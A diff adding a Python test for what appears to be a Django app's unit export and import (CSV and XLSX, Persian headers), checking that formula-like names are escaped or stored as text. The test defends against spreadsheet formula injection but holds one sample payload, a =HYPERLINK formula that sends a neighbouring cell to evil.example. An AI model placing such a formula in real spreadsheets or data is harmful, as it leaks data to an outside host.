@@ -193,3 +193,27 @@ def test_exporting_a_province_of_2500_units_takes_few_queries_and_keeps_every_ro
     assert len(list(csv.reader(io.StringIO(csv_content.decode("utf-8-sig"))))) == 2501
     _sheet, rows = read_xlsx(xlsx_content)
     assert len(rows) == 2501
+
+
+def test_a_unit_named_like_a_formula_is_exported_as_text_and_reimports_unchanged(
+    make_unit: Callable[..., Unit], expert: User
+) -> None:
+    """A manager named their unit =HYPERLINK(...): the expert's export must not carry a live formula."""
+    name = '=HYPERLINK("http://evil.example/?x="&B2, "کاشی البرز")'
+    unit = make_unit(name, address="+98 25 3333", postal_code="3718111111")
+    rows = list(csv.reader(io.StringIO(units_export_csv(Unit.objects.all()).decode("utf-8-sig"))))
+    row = dict(zip(HEADERS, rows[1], strict=True))
+    assert row["نام واحد"] == "'" + unit.name
+    assert row["نشانی"] == "'" + unit.address
+    assert row["کد پستی"] == "3718111111"
+
+    content = units_export_xlsx(Unit.objects.all())
+    cells = dict(zip(HEADERS, list(load_workbook(io.BytesIO(content)).active.iter_rows())[1], strict=True))  # type: ignore[union-attr]
+    assert (cells["نام واحد"].data_type, cells["نام واحد"].value) == ("s", unit.name)
+    assert (cells["نشانی"].data_type, cells["نشانی"].value) == ("s", unit.address)
+    assert cells["تعداد کارکنان"].data_type == "n"
+
+    batch = _import(content, expert)
+    import_batch_commit(batch=batch, by=expert)
+    unit.refresh_from_db()
+    assert (unit.name, unit.address) == (name, "+98 25 3333")
